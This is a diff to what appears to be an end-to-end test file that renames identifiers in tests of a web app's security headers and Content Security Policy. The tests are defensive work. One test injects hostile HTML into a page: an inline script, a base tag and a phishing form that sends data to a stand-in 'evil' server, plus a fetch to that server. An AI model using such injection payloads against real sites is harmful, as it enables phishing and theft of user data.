@@ -5,7 +5,7 @@ import { freePort } from '#platform/testing/ports.ts';
 import { addAppointment, form, openForm } from './support/appointments.ts';
 import { hostedOrigins, hostedSettings } from './support/hosted-firebase.ts';
 import { goToBank, respondAtBank, success } from './support/payment.ts';
-import { blockedRequests, inject, noteViolations, readPolicy } from './support/policy.ts';
+import { blockedRequests, injectHtml, readPolicy, recordViolations } from './support/policy.ts';
 import { startSite } from './support/site.ts';
 import { expect, test } from './support/test.ts';
 
@@ -16,11 +16,11 @@ const documents = [
   ...memberPages.map((path) => path.replace(':id', '7')),
 ];
 
-/** A visitor is led from each of these to the sign-in. */
-const guarded: string[] = memberPages.slice(1);
+/** The pages that redirect a visitor to the login page. */
+const guardedPages: string[] = memberPages.slice(1);
 
-/** What stands in every document, whoever the third parties are. */
-const decided = {
+/** The headers of every document, independent of the configured integrations. */
+const securityHeaders = {
   'x-content-type-options': 'nosniff',
   'x-frame-options': 'DENY',
   'referrer-policy': 'strict-origin-when-cross-origin',
@@ -28,7 +28,7 @@ const decided = {
   'cross-origin-opener-policy': 'same-origin-allow-popups',
   'cross-origin-resource-policy': 'same-origin',
 };
-const closed = {
+const strictPolicy = {
   'default-src': ["'self'"],
   'frame-src': ["'none'"],
   'connect-src': ["'self'"],
@@ -39,14 +39,14 @@ const closed = {
   'object-src': ["'none'"],
 };
 
-test('every document has the headers that were decided, and no origin in them but those that are configured', async ({
+test('every document has the security headers, with no origins except the configured ones', async ({
   request,
 }) => {
   for (const path of documents) {
     const headers = (await request.get(path)).headers();
-    expect(headers, path).toMatchObject(decided);
+    expect(headers, path).toMatchObject(securityHeaders);
     const { 'script-src': [self, ...hashes] = [], 'style-src': _, ...others } = readPolicy(headers);
-    expect(others, path).toEqual(closed);
+    expect(others, path).toEqual(strictPolicy);
     expect(self, path).toBe("'self'");
     expect(hashes.length, path).toBeGreaterThan(0);
     for (const hash of hashes) expect(hash, path).toMatch(/^'sha256-[\w+/]{43}='$/);
@@ -62,11 +62,11 @@ test('every document has the headers that were decided, and no origin in them bu
     STRIPE_WEBHOOK_SECRET: 'whsec_x',
   });
   try {
-    const answer = await fetch(`${site.url}/dashboard/payment/7`, { headers: { host: 'blood.example' } });
-    const headers = Object.fromEntries(answer.headers);
+    const response = await fetch(`${site.url}/dashboard/payment/7`, { headers: { host: 'blood.example' } });
+    const headers = Object.fromEntries(response.headers);
     const policy = readPolicy(headers);
     expect(headers).toMatchObject({
-      ...decided,
+      ...securityHeaders,
       'strict-transport-security': 'max-age=31536000; includeSubDomains',
     });
     expect(policy['frame-src']).toEqual([
@@ -85,13 +85,13 @@ test('every document has the headers that were decided, and no origin in them bu
   }
 });
 
-test.describe('nothing that the site does is against its own policy', () => {
+test.describe('the site never violates its own content policy', () => {
   test.use({ expectedErrors: [/status of 404/] });
 
-  test('[PUB-01] [GRD-01] on every page for a visitor, with its windows open', async ({ page, context }) => {
-    const violations = await noteViolations(context);
+  test('[PUB-01] [GRD-01] on every page for a visitor, with open dialogs', async ({ page, context }) => {
+    const violations = await recordViolations(context);
     const blocked = blockedRequests(context);
-    for (const path of documents.filter((each) => !['/', ...guarded].includes(each))) {
+    for (const path of documents.filter((each) => !['/', ...guardedPages].includes(each))) {
       await page.goto(path);
       await expect(
         page.getByRole('main').getByRole('heading').or(page.getByRole('alert')).first(),
@@ -110,13 +110,13 @@ test.describe('nothing that the site does is against its own policy', () => {
     expect({ violations, blocked }).toEqual({ violations: [], blocked: [] });
   });
 
-  test('[GRD-04] [PAY-01] [IDP-03] on every page for a member, at the bank and in the window of Google', async ({
+  test('[GRD-04] [PAY-01] [IDP-03] on every page for a member, on the bank page and in the Google popup', async ({
     page,
     context,
     signedIn,
     request,
   }) => {
-    const violations = await noteViolations(context);
+    const violations = await recordViolations(context);
     const blocked = blockedRequests(context);
     const id = await addAppointment(request, signedIn);
     for (const path of memberPages.filter((each) => !each.includes(':'))) {
@@ -139,18 +139,18 @@ test.describe('nothing that the site does is against its own policy', () => {
   });
 });
 
-/** A site of somebody else's that shows our pages and pictures, or tries to. */
-const elsewhere = test.extend<{ evil: { url: string; asked: string[] } }>({
+/** Adds another site that embeds our pages and images. */
+const testWithEvilSite = test.extend<{ evil: { url: string; requests: string[] } }>({
   evil: async ({ site }, use) => {
     const page = `<iframe src="${site.url}/login"></iframe><img src="${site.url}/icon-192.png" alt="">`;
-    const asked: string[] = [];
-    const server = createServer((request, answer) => {
-      asked.push(request.url ?? '');
-      answer.setHeader('Content-Type', 'text/html').end(page);
+    const requests: string[] = [];
+    const server = createServer((request, response) => {
+      requests.push(request.url ?? '');
+      response.setHeader('Content-Type', 'text/html').end(page);
     });
     const port = await freePort();
     await once(server.listen(port, '127.0.0.1'), 'listening');
-    await use({ url: `http://127.0.0.1:${port}`, asked });
+    await use({ url: `http://127.0.0.1:${port}`, requests });
     server.close();
     server.closeAllConnections();
   },
@@ -158,10 +158,10 @@ const elsewhere = test.extend<{ evil: { url: string; asked: string[] } }>({
   expectedErrors: ({ evil: _ }, use) => use([/Content Security Policy|ERR_BLOCKED|status of 404/]),
 });
 
-elsewhere(
-  'who got something into a page runs no script, sends nothing elsewhere and puts nothing over it; another site can neither frame a page, nor show its files, nor hold on to its window',
-  async ({ page, context, site, evil: { url: evil, asked } }) => {
-    const violations = await noteViolations(context);
+testWithEvilSite(
+  'injected HTML cannot run scripts, send data elsewhere or load frames; another site cannot frame a page, embed its files or keep a reference to its window',
+  async ({ page, context, site, evil: { url: evil, requests } }) => {
+    const violations = await recordViolations(context);
     await page.goto('/contact', { waitUntil: 'networkidle' });
     const attempts: Record<string, string> = {
       'script-src-elem inline': '<script>window.hacked = true</script>',
@@ -175,10 +175,10 @@ elsewhere(
       'base-uri': `<base href="${evil}/">`,
     };
     for (const [violation, html] of Object.entries(attempts)) {
-      await inject(page, html);
+      await injectHtml(page, html);
       await expect.poll(() => violations.some((found) => found.startsWith(violation)), violation).toBe(true);
     }
-    await inject(page, `<form id="phish" method="post" action="${evil}/take"><input name="a"></form>`);
+    await injectHtml(page, `<form id="phish" method="post" action="${evil}/take"><input name="a"></form>`);
     await page.evaluate(() => document.querySelector<HTMLFormElement>('#phish')?.submit());
     await expect.poll(() => violations.join()).toContain('form-action');
     expect(await page.evaluate((to) => fetch(to).then(String, String), `${evil}/take`)).toContain(
@@ -186,7 +186,7 @@ elsewhere(
     );
     await expect.poll(() => violations.join()).toContain('connect-src');
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
-    expect(asked).toEqual([]);
+    expect(requests).toEqual([]);
 
     const blocked = blockedRequests(context);
     await page.goto(evil);
